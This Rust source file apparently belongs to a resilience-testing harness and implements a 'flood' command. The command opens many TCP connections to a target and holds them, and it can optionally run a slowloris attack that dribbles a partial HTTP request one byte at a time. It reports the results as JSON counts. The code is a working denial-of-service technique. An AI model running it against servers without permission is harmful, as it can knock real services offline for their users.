//! A hostile task: open many connections and hold them, optionally
//! dribbling a request head one byte a second (slowloris).
use std::{
    io::{ErrorKind, Read, Write},
    net::TcpStream,
    time::{Duration, Instant},
};

use anyhow::{Context, Result};
use serde_json::json;

use crate::{arg, num, resolve_target};

/// `flood --target HOST:PORT --connections N [--slowloris] [--hold-ms D]
/// [--hosts FILE]`: prints `{"opened", "emfile", "refused", "other_errors",
/// "closed_by_peer"}`; `closed_by_peer` counts connections the server ended
/// while they were held.
pub fn run(args: &[String]) -> Result<()> {
    let target = arg(args, "--target").context("--target")?;
    let addr = resolve_target(args, &target)?;
    let n = num(args, "--connections", 100)?.min(100_000);
    let hold = Duration::from_millis(num(args, "--hold-ms", 5000)?.min(120_000));
    let slowloris = args.iter().any(|a| a == "--slowloris");
    let (mut emfile, mut refused, mut other) = (0u64, 0u64, 0u64);
    let mut conns = Vec::new();
    for _ in 0..n {
        match TcpStream::connect_timeout(&addr, Duration::from_secs(2)) {
            Ok(s) => conns.push(s),
            Err(e) if e.raw_os_error() == Some(libc::EMFILE) => {
                emfile += 1;
                // The task's own limit: more tries would only fail the same.
                break;
            }
            Err(e) if e.kind() == ErrorKind::ConnectionRefused => refused += 1,
            Err(_) => other += 1,
        }
    }
    let opened = conns.len() as u64;
    let mut open = vec![true; conns.len()];
    for s in &mut conns {
        s.set_nonblocking(true)?;
        if slowloris {
            let _ = s.write_all(b"GET / HTTP/1.1\r\nHost: x\r\n");
        }
    }
    let start = Instant::now();
    while start.elapsed() < hold {
        std::thread::sleep(Duration::from_millis(500));
        for (s, alive) in conns.iter_mut().zip(open.iter_mut()) {
            if !*alive {
                continue;
            }
            let mut b = [0u8; 512];
            match s.read(&mut b) {
                Ok(0) => *alive = false,
                Ok(_) => {}
                Err(e) if e.kind() == ErrorKind::WouldBlock => {}
                Err(_) => *alive = false,
            }
            if *alive && slowloris && s.write_all(b"X").is_err() {
                *alive = false;
            }
        }
    }
    let closed = open.iter().filter(|a| !**a).count() as u64;
    println!(
        "{}",
        json!({"opened": opened, "emfile": emfile, "refused": refused,
               "other_errors": other, "closed_by_peer": closed})
    );
    Ok(())
}
